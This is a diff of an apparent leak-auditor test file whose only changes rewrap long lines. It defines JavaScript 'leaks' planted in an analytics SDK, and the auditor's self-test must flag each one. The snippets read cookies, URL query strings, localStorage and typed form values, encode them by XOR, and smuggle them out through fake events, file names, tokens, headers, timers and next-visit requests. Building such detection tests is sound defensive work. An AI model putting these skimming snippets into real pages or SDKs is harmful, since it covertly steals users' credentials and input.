@@ -43,7 +43,8 @@ _CORE_PRELUDE = """(() => {
   const me = (document.currentScript && document.currentScript.src) || '';
   const origin = host.location.origin;
   const secret = () => host.document.cookie + '|' + host.location.search;
-  const typed = () => [...doc.querySelectorAll('input, textarea')].map((e) => e.value).filter(Boolean).join('|');
+  const typed = () => [...doc.querySelectorAll('input, textarea')].map((e) => e.value)
+    .filter(Boolean).join('|');
   const xorhex = (s) => Array.from(new TextEncoder().encode(s),
     (b, i) => ((b ^ (0x5a + i * 7)) & 255).toString(16).padStart(2, '0')).join('');
   const isEvents = (url) => /\\/v1\\/events$/.test(String(url));
@@ -219,7 +220,8 @@ SDK_LEAKS = [
          "rewrite = (b) => { b.sdk = '0.1.' + (secret().charCodeAt(0) % 10000); };", 'events',
          'events-envelope', core=True, detail='version'),
     Leak('events-user', 'the data XOR-ed into 64 hex digits as the user',
-         "rewrite = (b) => b.batch.forEach((e) => { e.user = (xorhex(secret()) + '0'.repeat(64)).slice(0, 64); });",
+         "rewrite = (b) => b.batch.forEach((e) => { "
+         "e.user = (xorhex(secret()) + '0'.repeat(64)).slice(0, 64); });",
          'events', 'events-user', core=True),
     Leak('events-seq', 'a length as a jump in the sequence numbers',
          "rewrite = (b) => b.batch.forEach((e) => { e.seq += 40 + secret().length % 50; });",
@@ -230,7 +232,8 @@ SDK_LEAKS = [
          'events', 'events-ts', core=True),
     Leak('events-unbound', 'a track event the app never made, its name the XOR-ed data',
          "rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), "
-         "ts: e.ts, type: 'track', user: e.user, hashed: e.hashed, name: 'x' + xorhex(secret()).slice(0, 60)}); };",
+         "ts: e.ts, type: 'track', user: e.user, hashed: e.hashed, "
+         "name: 'x' + xorhex(secret()).slice(0, 60)}); };",
          'events', 'events-unbound', core=True),
     Leak('events-attributes', 'an attribute the app never passed, the XOR-ed data',
          "rewrite = (b) => b.batch.forEach((e) => { if (e.type === 'identify') "
@@ -238,7 +241,8 @@ SDK_LEAKS = [
          'events', 'events-attributes', core=True),
     Leak('events-page', 'a page view of a URL the page never was at',
          "rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), "
-         "ts: e.ts, type: 'page', user: e.user, hashed: e.hashed, url: origin + '/p/' + xorhex(secret()).slice(0, 12)}); };",
+         "ts: e.ts, type: 'page', user: e.user, hashed: e.hashed, "
+         "url: origin + '/p/' + xorhex(secret()).slice(0, 12)}); };",
          'events', 'events-page', core=True),
     Leak('events-flow', 'a flow event with the XOR-ed data as its step',
          "rewrite = (b) => { const e = b.batch[0]; b.batch.push({id: crypto.randomUUID(), seq: next(b), "
@@ -246,16 +250,19 @@ SDK_LEAKS = [
          "step: xorhex(secret()).slice(0, 40)}); };",
          'events', 'events-flow', core=True, extra='&privacy=analytics', detail='step'),
     Leak('events-group', 'a group the app never joined, its ID the XOR-ed data',
-         "rewrite = (b) => b.batch.forEach((e) => { if (e.type === 'track') { e.type = 'group'; delete e.name; "
+         "rewrite = (b) => b.batch.forEach((e) => { "
+         "if (e.type === 'track') { e.type = 'group'; delete e.name; "
          "e.group = xorhex(secret()).slice(0, 64); } });",
          'events', 'events-group', core=True),
     Leak('sdk-file-manifest', 'the XOR-ed data as the hash in a chunk\'s file name',
-         "realFetch(me.replace(/userflow-core\\.[0-9a-f]{12}/, 'userflow-flows.' + xorhex(secret()).slice(0, 12)));",
+         "realFetch(me.replace(/userflow-core\\.[0-9a-f]{12}/, "
+         "'userflow-flows.' + xorhex(secret()).slice(0, 12)));",
          'sdk-file', 'sdk-file-manifest', core=True),
     Leak('sdk-file-count', 'a bit as a second load of the core file',
          "realFetch(me, {cache: 'no-store'});", 'sdk-file', 'sdk-file-count', core=True),
     Leak('content-token', 'the XOR-ed data as the content token',
-         "realFetch(origin + '/v1/content/' + xorhex(secret()).slice(0, 40), {cache: 'no-store'});",
+         "realFetch(origin + '/v1/content/' + xorhex(secret()).slice(0, 40), "
+         "{cache: 'no-store', credentials: 'omit'});",
          'content', 'content-token', core=True),
     Leak('content-count', 'a bit as a second content request at page hide',
          "host.addEventListener('pagehide', () => realFetch(origin + '/v1/content/tok_audit', "
@@ -286,10 +293,12 @@ SDK_LEAKS = [
          "Object.values(host.localStorage).join('|').slice(0, 500)}});",
          'header:x-prefs', 'local-storage', core=True),
     Leak('second-visit', 'typed values kept at page hide and sent on the next visit',
-         "host.addEventListener('pagehide', () => { const t = typed(); if (t) host.localStorage.setItem('uf:later', t); });"
+         "host.addEventListener('pagehide', () => { "
+         "const t = typed(); if (t) host.localStorage.setItem('uf:later', t); });"
          "const later = host.localStorage.getItem('uf:later');"
          "if (later) { host.localStorage.removeItem('uf:later'); "
-         "realFetch(origin + '/v1/events?later=' + encodeURIComponent(later), {method: 'POST', body: '{}'}); }",
+         "realFetch(origin + '/v1/events?later=' + encodeURIComponent(later), "
+         "{method: 'POST', body: '{}'}); }",
          'url', 'input-', core=True, detail='second visit'),
     Leak('late-timer', 'typed values sent by a timer 90 s later',
          "setTimeout(() => realFetch(origin + '/late?d=' + encodeURIComponent(typed())), 90000);",
@@ -337,7 +346,9 @@ class Result:
     findings: list
 
 
-def self_test(url: str, strict_url: str, scenario: dict, progress=None, names=None, **options) -> list[Result]:
+def self_test(
+    url: str, strict_url: str, scenario: dict, progress=None, names=None, **options
+) -> list[Result]:
     """Audit `url` once per leak; each must be flagged with its rule (channel and source). SDK
     leaks need `collector` (in `options`): it serves each leaky build in turn at /dist/.
     `progress(line)`, when given, hears one line per leak as it is judged; `names` picks leaks."""
